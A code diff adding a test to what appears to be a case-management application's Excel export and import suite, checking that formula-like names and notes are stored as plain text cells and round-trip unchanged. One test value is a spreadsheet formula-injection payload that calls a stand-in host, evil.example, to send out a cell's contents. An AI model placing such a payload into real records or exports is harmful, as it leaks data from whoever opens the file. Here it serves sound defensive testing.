@@ -187,6 +187,49 @@ def test_it_exports_none_of_another_organisations_records(org_a, org_b, org_admi
     assert head_of(in_lotse).external_id == ""
 
 
+def test_it_exports_a_formula_typed_into_a_record_as_text_and_reads_it_back_unchanged(org_admin_a, caseworker_a):
+    """A family name a spreadsheet would run as a formula is a text cell; importing the export gives it back."""
+    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"Klick")'
+    org_a = caseworker_a.organisation
+    opened = open_case_for(
+        caseworker_a, municipality=Municipality.objects.get(ags="08118048"), family_name=hyperlink, given_names="+1+1"
+    )
+    services.record_contact(
+        acting_user=caseworker_a,
+        case=opened,
+        date=datetime.date(2025, 1, 10),
+        duration_minutes=40,
+        form=ContactForm.OFFICE,
+        fields_of_action=[FieldOfAction.SPRACHE],
+        note="@SUMME(1+1)",
+    )
+
+    exported = export(org_a, org_admin_a)
+
+    persons = openpyxl.load_workbook(io.BytesIO(exported))[PERSONS.name]
+    family, given = persons["C2"], persons["D2"]
+    assert (family.value, family.data_type, given.value, given.data_type) == (hyperlink, "s", "+1+1", "s")
+    note = openpyxl.load_workbook(io.BytesIO(exported))[CONTACTS.name]["G2"]
+    assert (note.value, note.data_type) == ("@SUMME(1+1)", "s")
+    # Importing it into its own organisation changes nothing; into an empty one, it gives the same name.
+    before = snapshot(org_a)
+    back = run(org_a, org_admin_a, ("export.xlsx", exported))
+    assert problems(back) == []
+    assert unchanged_everywhere(back)
+    assert snapshot(org_a) == before
+    org_b = fresh_organisation("formula")
+    elsewhere = openpyxl.load_workbook(io.BytesIO(rewrite_carrier(exported, org_b.short_name)))
+    elsewhere[CASES.name]["H2"].value = None  # the caseworker of A is nobody in B
+    buffer = io.BytesIO()
+    elsewhere.save(buffer)
+    into_b = run(org_b, org_admin_a, ("export.xlsx", buffer.getvalue()))
+    assert problems(into_b) == []
+    assert into_b.committed is True
+    imported = Person.objects.get(organisation=org_b)
+    assert (imported.family_name, imported.given_names) == (hyperlink, "+1+1")
+    assert Contact.objects.get(case__organisation=org_b).note == "@SUMME(1+1)"
+
+
 # 13. Round trip of generated workbooks
 
 
